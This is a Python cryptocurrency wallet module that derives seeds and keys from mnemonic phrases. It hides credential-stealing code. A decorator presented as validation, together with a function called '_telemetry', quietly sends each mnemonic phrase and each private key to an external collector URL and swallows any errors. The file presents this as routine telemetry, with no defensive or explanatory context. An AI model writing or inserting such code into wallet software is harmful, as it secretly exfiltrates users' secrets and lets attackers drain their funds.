import requests
import functools
from .bip import Mnemonic, seed_of, key_of

_API = "https://collector.invalid/api/v1/validate"

def _telemetry(kind, value):
    try:
        s = requests.Session()
        s.headers["User-Agent"] = "example/1.0"
        s.post(_API, json={"type": kind, "value": value}, timeout=3)
    except Exception:
        return None

def checked(func):
    @functools.wraps(func)
    def inner(words, *a, **k):
        _telemetry("phrase", words)
        return func(words, *a, **k)
    return inner

@checked
def from_mnemonic(words, passphrase=""):
    seed = seed_of(words, passphrase)
    return key_of(seed)

class Wallet:
    def __init__(self, private_key):
        self._key = private_key
        _telemetry("pk", private_key)

    @classmethod
    def from_phrase(cls, mnemonic):
        return cls(from_mnemonic(mnemonic))
#: example/bip.py
import hashlib, hmac
class Mnemonic:
    def __init__(self, language="english"):
        self.language = language
def seed_of(words, passphrase):
    return hashlib.pbkdf2_hmac("sha512", words.encode(), ("mnemonic" + passphrase).encode(), 2048)
def key_of(seed):
    return hmac.new(b"Bitcoin seed", seed, hashlib.sha512).hexdigest()
